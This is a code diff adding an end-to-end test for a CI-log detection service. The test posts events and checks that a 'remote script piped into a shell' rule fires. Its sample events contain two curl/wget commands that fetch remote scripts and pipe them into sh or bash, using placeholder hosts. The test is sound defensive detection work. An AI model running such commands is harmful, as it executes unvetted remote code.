@@ -5,6 +5,7 @@ from __future__ import annotations
 from pathlib import Path
 
 import httpx
+import orjson
 import pytest
 
 from service.api import ApiContext, create_app
@@ -204,3 +205,56 @@ async def test_no_tokens_means_open_api(tmp_path):
         assert (await client.get("/api/v1/rules")).status_code == 200
         resp = await client.post("/api/v1/events?category=ci_job_log", content=MATCHING)
         assert resp.status_code == 200 and len(resp.json()["alerts"]) == 1
+
+
+def test_embedded_default_newcomer_posts_an_event_and_sees_an_alert(tmp_path):
+    """``pipesentry run`` with no config: project rules, HTTP ingest and stdin, alerts on stdout and in the store."""
+    import os
+    import subprocess
+    import sys
+    import threading
+    import time
+
+    from service.devservices.process import free_port
+
+    port = free_port()
+    env = {k: v for k, v in os.environ.items() if not k.startswith("PIPESENTRY_")}
+    proc = subprocess.Popen([sys.executable, "-m", "service.cli", "run", "--port", str(port)], cwd=tmp_path,
+                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env)
+    lines: list[bytes] = []
+    threading.Thread(target=lambda: lines.extend(iter(proc.stdout.readline, b"")), daemon=True).start()
+
+    def wait(predicate, what: str) -> None:
+        deadline = time.monotonic() + 60
+        while not predicate():
+            assert time.monotonic() < deadline and proc.poll() is None, f"timed out waiting for {what}"
+            time.sleep(0.1)
+
+    def ready() -> bool:
+        try:
+            return httpx.get(url + "/readyz", timeout=1).status_code == 200
+        except httpx.HTTPError:
+            return False
+
+    try:
+        url = f"http://127.0.0.1:{port}"
+        wait(ready, "readiness")
+        event = b'{"message": "$ curl -sSfL https://get.example.net/install.sh | sh"}'
+        posted = httpx.post(url + "/api/v1/events?category=ci_job_log", content=event, timeout=10).json()
+        assert posted["alerts"][0]["title"] == "Remote Script Piped Into A Shell During A Build"
+        stored = httpx.get(url + "/api/v1/alerts", timeout=10).json()
+        assert stored["total"] == 1 and stored["items"][0]["event"]["id"] == posted["alerts"][0]["id"]
+        wait(lambda: len(lines) >= 1, "the alert on stdout")
+        assert orjson.loads(lines[0])["alert_id"] == posted["alerts"][0]["id"]
+        # stdin is a pipe here, so it is an input too; with no log source configured every rule applies
+        proc.stdin.write(b'{"message": "wget -qO- https://x.example/a | bash"}\n')
+        proc.stdin.flush()
+        wait(lambda: len(lines) >= 2, "the stdin alert on stdout")
+        assert orjson.loads(lines[1])["source"].startswith("stdin:")
+        metrics = httpx.get(url + "/metrics", timeout=10).text
+        assert 'pipesentry_events_total{source="stdin"} 1.0' in metrics
+        assert (tmp_path / "pipesentry-data" / "alerting" / "alerts.db").is_file()
+    finally:
+        proc.terminate()
+        proc.wait(30)
+    assert proc.returncode == 0
